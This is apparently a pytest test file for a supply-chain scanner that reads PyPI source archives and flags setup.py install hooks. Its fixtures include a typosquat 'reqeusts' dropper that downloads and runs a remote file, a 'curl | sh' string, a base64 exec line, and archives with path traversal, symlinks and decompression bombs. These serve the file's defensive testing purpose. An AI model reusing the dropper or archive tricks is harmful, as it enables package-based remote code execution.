"""Reading a PyPI sdist's setup.py safely: what it does at install, and hostile archives built at run time."""

from __future__ import annotations

import gzip
import hashlib
import io
import tarfile
import zipfile

import httpx
import pytest
from confuguard.registries._http import Http
from confuguard.registries._sdist import (
    DECOMPRESSED_MAX_BYTES,
    SETUP_MAX_BYTES,
    SdistError,
    install_behaviour,
    read_setup_py,
)
from confuguard.registries.pypi import PyPIRegistry

from confuguard import names
from confuguard.config import FetchOptions
from confuguard.types import Ecosystem

DROPPER = b'''
import os, subprocess, urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        data = urllib.request.urlopen("http://203.0.113.9/x").read()
        open("/tmp/x", "wb").write(data)
        subprocess.Popen(["python", "/tmp/x"])

setup(name="reqeusts", version="0.1", cmdclass={"install": PostInstall})
'''
PLAIN = b'''
import os
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

here = os.path.dirname(__file__)
exec(open(os.path.join(here, "pkg", "version.py")).read())

class BuildExt(build_ext):
    pass

setup(name="pkg", version=__version__, cmdclass={"build_ext": BuildExt},
      ext_modules=[Extension("pkg._c", ["pkg/c.c"])])
'''


def targz(members: dict[str, bytes], *, link: str | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
        if link:
            info = tarfile.TarInfo(link)
            info.type = tarfile.SYMTYPE
            info.linkname = "/etc/passwd"
            tar.addfile(info)
    return buf.getvalue()


def zipped(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members.items():
            zf.writestr(name, body)
    return buf.getvalue()


# -- what setup.py does --------------------------------------------------------------------------------


def test_a_dropper_setup_py_overrides_install_downloads_and_runs():
    assert install_behaviour(DROPPER.decode()) == ("cmdclass", "runs-commands", "downloads")


def test_an_ordinary_setup_py_is_no_install_hook():
    # reading its own version file and building a C extension are what setup.py files do
    assert install_behaviour(PLAIN.decode()) == ()
    assert install_behaviour("from setuptools import setup\nsetup(name='x')\n") == ()


def test_aliases_and_exec_of_a_payload_are_resolved():
    src = ("from os import system as s\nimport base64 as b\nimport requests\n"
           "requests.get('http://x/p')\nexec(b.b64decode('cHJpbnQoMSk='))\ns('id')\n")
    assert install_behaviour(src) == ("runs-commands", "downloads", "executes-code", "decodes-payload")


def test_source_that_does_not_parse_is_read_with_patterns():
    py2 = "import os\nprint 'installing'\nos.system('curl http://x | sh')\nurllib.urlretrieve('http://x', 'y')\n"
    assert install_behaviour(py2) == ("runs-commands", "downloads")
    assert install_behaviour("(" * 50000) == ()  # nested past the parser: no crash, nothing found


# -- archives ------------------------------------------------------------------------------------------


def test_setup_py_is_read_from_tar_gz_and_zip_in_memory():
    assert read_setup_py(targz({"reqeusts-0.1/setup.py": DROPPER, "reqeusts-0.1/README": b"x"}), "reqeusts-0.1.tar.gz") == DROPPER.decode()
    assert read_setup_py(zipped({"reqeusts-0.1/setup.py": DROPPER}), "reqeusts-0.1.zip") == DROPPER.decode()


@pytest.mark.parametrize("member", ["../setup.py", "/setup.py", "setup.py", "a/b/setup.py", "a\\setup.py"])
def test_only_the_top_folder_setup_py_is_read_never_a_path_outside(member):
    with pytest.raises(SdistError, match="no setup.py"):
        read_setup_py(targz({member: DROPPER}), "x-1.tar.gz")
    with pytest.raises(SdistError, match="no setup.py"):
        read_setup_py(zipped({member: DROPPER}), "x-1.zip")


def test_a_link_named_setup_py_is_not_followed():
    with pytest.raises(SdistError, match="no setup.py"):
        read_setup_py(targz({}, link="x-1/setup.py"), "x-1.tar.gz")


def test_a_decompression_bomb_stops_at_the_cap():
    # ~40 MB of zeros ahead of setup.py compress to a few tens of KB
    bomb = targz({"x-1/padding": bytes(DECOMPRESSED_MAX_BYTES + (8 << 20)), "x-1/setup.py": DROPPER})
    assert len(bomb) < 2 * 1024 * 1024
    with pytest.raises(SdistError, match="bomb"):
        read_setup_py(bomb, "x-1.tar.gz")


def test_an_oversized_setup_py_is_refused_in_both_formats():
    big = b"#" * (SETUP_MAX_BYTES + 1)
    with pytest.raises(SdistError, match="bytes"):
        read_setup_py(targz({"x-1/setup.py": big}), "x-1.tar.gz")
    with pytest.raises(SdistError, match="bytes"):
        read_setup_py(zipped({"x-1/setup.py": big}), "x-1.zip")


@pytest.mark.parametrize("data", [b"", b"not an archive", gzip.compress(b"not a tar" * 100)])
def test_damaged_or_foreign_archives_are_one_line_errors(data):
    with pytest.raises(SdistError) as exc:
        read_setup_py(data, "x-1.tar.gz")
    assert "\n" not in str(exc.value)
    truncated = targz({"x-1/setup.py": DROPPER * 50})[:300]
    with pytest.raises(SdistError, match="damaged"):
        read_setup_py(truncated, "x-1.tar.gz")
    with pytest.raises(SdistError, match="not read"):
        read_setup_py(b"x", "x-1.tar.bz2")


# -- the PyPI client -----------------------------------------------------------------------------------

FILES = "https://files.pythonhosted.org/packages/ab/cd"


def project(name: str, files: list[dict], version: str = "0.1") -> dict:
    return {"info": {"name": name, "version": version, "summary": "HTTP for humans"},
            "releases": {version: files}, "urls": files,
            "ownership": {"roles": [{"role": "Owner", "user": "fresh-account"}]}}


def sdist_file(name: str, data: bytes, *, url: str = FILES, size: int | None = None, sha: str | None = None) -> dict:
    return {"filename": f"{name}-0.1.tar.gz", "packagetype": "sdist", "url": f"{url}/{name}-0.1.tar.gz",
            "size": len(data) if size is None else size, "upload_time_iso_8601": "2026-10-01T00:00:00Z",
            "digests": {"sha256": sha or hashlib.sha256(data).hexdigest()}}


def client(doc: dict, archive: bytes, seen: list[str], **fetch: bool) -> PyPIRegistry:
    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(str(request.url))
        if request.url.path.endswith("/json") and "/pypi/" in request.url.path:
            return httpx.Response(200, json=doc)
        if request.url.path.endswith(".tar.gz"):
            return httpx.Response(200, content=archive, headers={"Content-Type": "application/octet-stream"})
        return httpx.Response(404)

    http = Http(httpx.Client(transport=httpx.MockTransport(handler)), sleep=lambda s: None)
    return PyPIRegistry(http, {"pypi": "https://pypi.test"}, fetch=FetchOptions(**fetch))


def test_a_source_only_dropper_is_read_when_opted_in():
    archive = targz({"reqeusts-0.1/setup.py": DROPPER})
    seen: list[str] = []
    reg = client(project("reqeusts", [sdist_file("reqeusts", archive)]), archive, seen, sdist=True)
    meta = reg.metadata(names.parse("reqeusts", Ecosystem.PYPI))
    assert meta.install_behaviour == ("cmdclass", "runs-commands", "downloads") and meta.install_scripts is True
    assert meta.extra["install_hook"].startswith("read setup.py of reqeusts-0.1.tar.gz")
    assert sum(u.endswith(".tar.gz") for u in seen) == 1


def test_the_sdist_is_not_downloaded_unless_opted_in_and_never_beyond_its_bounds():
    archive = targz({"reqeusts-0.1/setup.py": DROPPER})
    pkg = names.parse("reqeusts", Ecosystem.PYPI)
    cases = [
        ({}, [sdist_file("reqeusts", archive)], None, 0),  # not opted in: no note, no download
        ({"sdist": True}, [sdist_file("reqeusts", archive, size=3 * 1024 * 1024)], "cap", 0),
        ({"sdist": True}, [sdist_file("reqeusts", archive, url="http://203.0.113.9/evil")], "host other than", 0),
        ({"sdist": True}, [sdist_file("reqeusts", archive, sha="0" * 64)], "sha256", 1),
        ({"sdist": True}, [sdist_file("reqeusts", archive), {"packagetype": "bdist_wheel", "url": f"{FILES}/w.whl"}],
         "wheels", 0),
        ({"sdist": True}, [{"packagetype": "bdist_wheel", "url": f"{FILES}/w.whl"}], "no sdist", 0),
    ]
    for fetch, files, why, downloads in cases:
        seen: list[str] = []
        meta = client(project("reqeusts", files), archive, seen, **fetch).metadata(pkg)
        assert meta.install_behaviour is None and sum(u.endswith((".tar.gz", ".whl")) for u in seen) == downloads, why
        assert (why is None and "install_hook" not in meta.extra) or why in meta.extra["install_hook"]


def test_a_hostile_download_leaves_the_behaviour_unknown_with_its_reason():
    bomb = targz({"x-0.1/padding": bytes(DECOMPRESSED_MAX_BYTES + 1024), "x-0.1/setup.py": DROPPER})
    seen: list[str] = []
    meta = client(project("x", [sdist_file("x", bomb)]), bomb, seen, sdist=True).metadata(names.parse("x", Ecosystem.PYPI))
    assert meta.install_behaviour is None and "bomb" in meta.extra["install_hook"]


def test_a_drip_fed_sdist_stops_at_its_time_limit(monkeypatch):
    """A server on 127.0.0.1 that sends one byte every 50 ms: the download gives up at its time limit."""
    import socket
    import threading
    import time

    from confuguard.registries import pypi

    monkeypatch.setattr(pypi, "SDIST_SECONDS", 0.5)
    srv = socket.create_server(("127.0.0.1", 0))
    port = srv.getsockname()[1]
    stop = threading.Event()

    def serve() -> None:
        conn, _ = srv.accept()
        with conn:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 2048\r\n\r\n")
            for _ in range(2048):
                if stop.is_set():
                    return
                try:
                    conn.sendall(b"x")
                except OSError:
                    return
                time.sleep(0.05)

    threading.Thread(target=serve, daemon=True).start()
    base = f"http://127.0.0.1:{port}"
    doc = project("slow", [sdist_file("slow", b"x" * 2048, url=f"{base}/files")])

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, json=doc)

    real = httpx.Client()
    mock = httpx.Client(transport=httpx.MockTransport(handler))

    class Split(httpx.BaseTransport):  # the JSON from the mock, the file from the dripping socket
        def handle_request(self, request: httpx.Request) -> httpx.Response:
            client = real if request.url.path.endswith(".tar.gz") else mock
            return client._transport.handle_request(request)

    http = Http(httpx.Client(transport=Split()), sleep=lambda s: None)
    reg = PyPIRegistry(http, {"pypi": base}, fetch=FetchOptions(sdist=True))
    started = time.monotonic()
    try:
        meta = reg.metadata(names.parse("slow", Ecosystem.PYPI))
    finally:
        stop.set()
        srv.close()
    assert meta.install_behaviour is None and "time limit" in meta.extra["install_hook"]
    assert time.monotonic() - started < 10
